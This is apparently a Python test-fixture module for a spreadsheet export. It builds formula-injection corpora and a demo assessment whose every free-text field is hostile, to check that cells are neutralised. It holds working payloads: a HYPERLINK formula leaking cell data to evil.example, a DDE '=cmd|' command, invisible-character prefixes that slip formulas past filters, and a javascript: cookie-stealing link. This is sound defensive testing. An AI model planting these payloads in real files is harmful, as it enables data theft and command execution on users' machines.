"""Text that a spreadsheet could run or refuse, with what a cell must keep of it, and an
assessment whose every free text is hostile."""

from __future__ import annotations

import datetime as dt
import itertools
from pathlib import Path

from roam.assessment.model import Assessment, Comment, Evidence
from roam.assessment.storage import save_assessment
from roam.demo import make_demo
from roam.framework.loader import load_framework
from tests.helpers.files import MINI_FRAMEWORK

# Text a team might type (or an attacker might plant) that a spreadsheet could run, either
# at once or once the sheet is saved as CSV and reopened.
FORMULA_CORPUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "+33 1 23 45 67 89",
    "-- see the annex",
    "@liaison please check",
    "=1+1\nsecond line",
    "'=1+1",  # an apostrophe typed before a formula: marked again, so it comes back whole
]
# What a spreadsheet skips or folds before reading a formula, or what a cell loses: each of
# these in front of a formula once reached the sheet as a bare formula, without a prefix.
HIDDEN_STARTS = [
    "\x07",  # bell: removed from the cell, which then starts with "="
    "\x1b",  # escape: the same
    "\ufffe",  # a non-character: the same
    "\x85",  # NEL, a C1 control
    "\n",  # leading line feed
    "\n\r\t ",  # a run of them
    "\u00a0",  # no-break space
    "\u3000",  # ideographic space
    "\u200b",  # zero-width space
    "\u200d\u2060",  # zero-width joiner, word joiner
    "\ufeff",  # byte-order mark
    "\u202e",  # right-to-left override
    "\u00ad",  # soft hyphen
]
FULL_WIDTH = ["\uff1dHYPERLINK(A1)", "\uff0b1+1", "\uff0d2+3", "\uff20SUM(A1)", "\u22121+1"]
HIDDEN_CORPUS = [f'{start}=HYPERLINK("http://evil.example")' for start in HIDDEN_STARTS]
# Text that no spreadsheet reads as a formula: stored exactly as typed.
PLAIN_CORPUS = ["plain", "a = b", "e-mail", "  indented", "'quoted'", "2+2", "\u00a0no", "x=1"]
# Control characters Excel refuses, with what must remain of them (worked out by hand:
# tab, line feed and carriage return are allowed, every other C0 control is removed).
CONTROL_CORPUS = [
    ("a\x00b", "ab"),
    ("bell\x07", "bell"),
    ("\x1b[31mred", "[31mred"),
    ("form\x0cfeed", "formfeed"),
    ("vertical\x0btab", "verticaltab"),
    ("\x01\x02\x03x", "x"),
    ("keeps\ttab\nand newline", "keeps\ttab\nand newline"),
    ("non\ufffecharacters\uffff", "noncharacters"),
    ("more\ufdd0non\U0001fffechar\U0010ffffacters", "morenoncharacters"),
    ("c1\x85\x9bcontrols\x7f", "c1controls"),
]


def hostile_assessment(path: Path, hostile: list[str]) -> Assessment:
    """The demo, with every free text the team or outsiders type replaced by a hostile one."""
    framework = load_framework(MINI_FRAMEWORK)
    assessment = make_demo(framework, path=path)
    texts = itertools.cycle(hostile)
    assessment.country = "=Examplia"
    for person in assessment.team:
        person.name, person.role = next(texts), next(texts)
    for member in assessment.mab:
        member.organisation = next(texts)
    for milestone in assessment.milestones:
        milestone.note = next(texts)
    for answer in assessment.answers.values():
        answer.justification = next(texts)
        answer.evidence.append(
            Evidence(
                kind="report",
                citation=next(texts),
                location="javascript:alert(document.cookie)",
                publisher=next(texts),
            )
        )
        answer.review.thread.append(
            Comment(
                author=next(texts), time=dt.datetime(2024, 5, 1, tzinfo=dt.UTC), text=next(texts)
            )
        )
        for change in answer.history:
            change.who = next(texts)
    for recommendation in assessment.recommendations:
        recommendation.text = next(texts)
    save_assessment(assessment, path, framework)
    return assessment
